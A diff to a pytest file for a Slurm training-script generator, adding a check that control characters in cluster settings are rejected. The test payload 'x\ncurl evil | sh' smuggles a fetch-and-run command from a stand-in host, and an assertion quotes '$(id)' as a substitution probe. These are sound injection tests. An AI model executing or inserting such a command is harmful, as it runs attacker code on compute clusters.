@@ -14,6 +14,7 @@ import pytest
 from core import machine
 from core.recipe import Launch, Loader, Recipe, Train
 from jobs.cluster import Cluster, load, names
+from jobs.errors import UserError
 from jobs.placement import Placement
 from jobs.slurm import script
 
@@ -66,6 +67,7 @@ def test_runs_of_an_array_have_a_task_and_a_log_each() -> None:
 def test_ranks_get_their_variables_from_one_place() -> None:
     text = training(RICH)
     assert "export OMP_NUM_THREADS=3 " in text
+    assert " PYTHONSAFEPATH=1" in text
     assert "NCCL_SOCKET_IFNAME=ib0 GLOO_SOCKET_IFNAME=ib0 NCCL_DEBUG=INFO NOTE='two words; $(id)'" in text
     assert "--cpu-bind=cores" in text
     assert "--cpu-bind" not in training(RICH, Placement(2, "cpu", 1))
@@ -132,6 +134,24 @@ def test_workers_are_an_array_of_one_rank_s_share_each_that_may_be_started_again
     assert "\"${retort[@]}\" -m jobs.extract --store 's3://b/p q' --order 0123\n" in made.text
     assert '  75) scontrol requeue "$job"' in made.text
     assert not re.search(r"@\w+@", made.body)
+
+
+@pytest.mark.parametrize("character", ["\n", "\r", "\x1b", "\x00"])
+def test_nothing_in_a_script_is_more_than_the_line_it_stands_in(character: str) -> None:
+    more = f"x{character}curl evil | sh"
+    for cluster in (Cluster(partition=more), Cluster(env={"A": more}), Cluster(setup=[more]),
+                    Cluster(extra={"a": more}), Cluster(container="apptainer", image=more),
+                    Cluster(container="pyxis", image="x", mounts=[more]), Cluster(interface=more),
+                    Cluster(python=more)):  # fmt: skip
+        with pytest.raises(UserError, match="must be one line"):
+            training(cluster)
+    recipe = Recipe(name="demo")
+    with pytest.raises(UserError, match="must be one line"):
+        script.training(recipe, Cluster(), FOUR, ["demo-1"], f"s3://b/{more}", Path("/logs"))
+    with pytest.raises(UserError, match="must be one line"):
+        script.workers(["-m", more], 2, recipe, Cluster(), FOUR, Path("/logs"))
+    with pytest.raises(UserError, match="must be one line"):
+        script.after("eval", Cluster(), FOUR, [more], "s3://b/p", Path("/logs"), "12")
 
 
 def test_one_worker_is_no_array() -> None:
